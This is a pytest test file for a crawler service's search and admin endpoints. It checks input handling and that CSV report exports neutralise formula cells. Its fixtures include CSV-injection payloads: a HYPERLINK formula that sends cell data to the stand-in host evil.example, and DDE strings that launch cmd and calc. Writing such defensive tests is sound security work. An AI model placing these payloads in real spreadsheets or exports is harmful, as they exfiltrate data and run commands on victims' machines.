"""The admin surface under attack and under bad input (issue 18): each test here was
written against a finding that a hostile client, page or site could use."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

from fixture_sites import Route, SiteServer, html_page, trawl
from service_fixtures import crawl_site, new_key, service_settings, site_routes
from trawl.records import HeaderCheck, ResourceCheck
from trawl.server.app import create_app
from trawl.settings import Settings
from trawl.store.sqlite import SQLiteStore

Serve = Callable[..., SiteServer]
DEEP = "(" * 330 + "heron" + ")" * 330


class Service:
    def __init__(self, client: TestClient, key: str, settings: Settings, site: SiteServer):
        self.client = client
        self.key = key
        self.settings = settings
        self.site = site

    def admin(self, method: str, path: str, **kwargs: Any) -> Any:
        headers = {"X-API-Key": self.key, **kwargs.pop("headers", {})}
        return self.client.request(method, path, headers=headers, **kwargs)


def _service(serve: Serve, tmp_path: Path, routes: dict[str, Route], **settings: Any) -> Service:
    site = serve(routes)
    config = service_settings(tmp_path, **settings)
    crawl_site(site, config)
    return Service(TestClient(create_app(config)), new_key(config), config, site)


@pytest.fixture
def service(serve: Serve, tmp_path: Path) -> Iterator[Service]:
    found = _service(serve, tmp_path, site_routes())
    with found.client:
        yield found


# -- bad input, no 500 ------------------------------------------------------------


def test_deeply_nested_parentheses_are_searched_as_words(service: Service) -> None:
    api = service.client.get("/api/search", params={"q": DEEP})
    assert api.status_code == 200, api.text
    assert any("herons" in r["url"] for r in api.json()["results"])
    page = service.client.get("/", params={"q": DEEP})
    assert page.status_code == 200 and 'class="result"' in page.text

    cli = trawl("search", DEEP, "--data", str(service.settings.data))
    assert cli.returncode == 0 and "Grey herons" in cli.stdout, cli.stderr


@pytest.mark.parametrize("number", ["²", "①", "٣", "-1", "0", "1e3", " 2", "0001"])
def test_a_page_number_that_is_no_ascii_integer_reads_as_the_first_page(
    service: Service, number: str
) -> None:
    response = service.client.get("/", params={"q": "heron", "page": number})
    assert response.status_code == 200
    assert 'class="result"' in response.text


@pytest.mark.parametrize("number", ["5" * 5000, "9" * 12, "1001"])
def test_a_page_number_past_the_last_allowed_is_clamped(service: Service, number: str) -> None:
    response = service.client.get("/", params={"q": "heron", "page": number})
    assert response.status_code == 200
    assert 'start="19981"' in response.text  # page 1000 of 20 results each


# -- CSV exports do not carry formulas -----------------------------------------------

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"open")'


def _formula_site() -> dict[str, Route]:
    home = (
        '<a href="/a">@SUM(A1:A9)</a> <a href="http://10.255.255.1:9/x">-2+3</a>'
        ' <img src="/pixel.png" alt="">'
    )
    return {
        "/": html_page(FORMULA_TITLE, home),
        "/a": html_page("+cmd|' /C calc'!A0", "<p>a page</p>"),
        "/pixel.png": Route(b"\x89PNG\r\n", headers={"Content-Type": "image/png"}),
    }


def _csv(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.text)))


def _no_formula(rows: list[dict[str, str]]) -> None:
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row


def test_csv_exports_neutralise_formula_cells(serve: Serve, tmp_path: Path) -> None:
    service = _service(serve, tmp_path, _formula_site(), resource_checks=10)
    home, other, pixel = (service.site.url(p) for p in ("/", "/a", "/pixel.png"))
    with service.client:
        store = SQLiteStore(service.settings.sqlite_path)
        store.save_header_checks(
            [HeaderCheck("http://10.255.255.1:9/x", 302, "=cmd|' /C calc'!A0", (), "@x", 0.0)]
        )
        store.save_resources([ResourceCheck(pixel, 200, "\t=1+1", 6, "\r=2", 0.0)])
        store.close()

        pages = _csv(service.admin("GET", "/api/admin/report/pages.csv"))
        titles = {r["url"]: r["title"] for r in pages}
        assert titles[home] == "'" + FORMULA_TITLE
        assert titles[other] == "'+cmd|' /C calc'!A0"
        _no_formula(pages)

        links = _csv(service.admin("GET", "/api/admin/report/links.csv", params={"url": home}))
        anchors = {r["url"]: r["anchor"] for r in links}
        assert anchors[other] == "'@SUM(A1:A9)" and anchors["http://10.255.255.1:9/x"] == "'-2+3"
        _no_formula(links)
        inbound = service.admin(
            "GET", "/api/admin/report/links.csv", params={"url": other, "direction": "in"}
        )
        _no_formula(_csv(inbound))

        external = _csv(service.admin("GET", "/api/admin/report/external.csv"))
        assert external[0]["location"] == "'=cmd|' /C calc'!A0" and external[0]["error"] == "'@x"
        _no_formula(external)

        resources = _csv(service.admin("GET", "/api/admin/report/resources.csv"))
        row = next(r for r in resources if r["url"] == pixel)
        assert row["content_type"] == "'\t=1+1" and row["error"] == "'\r=2"
        _no_formula(resources)
        _no_formula(_csv(service.admin("GET", "/api/admin/crawls.csv")))
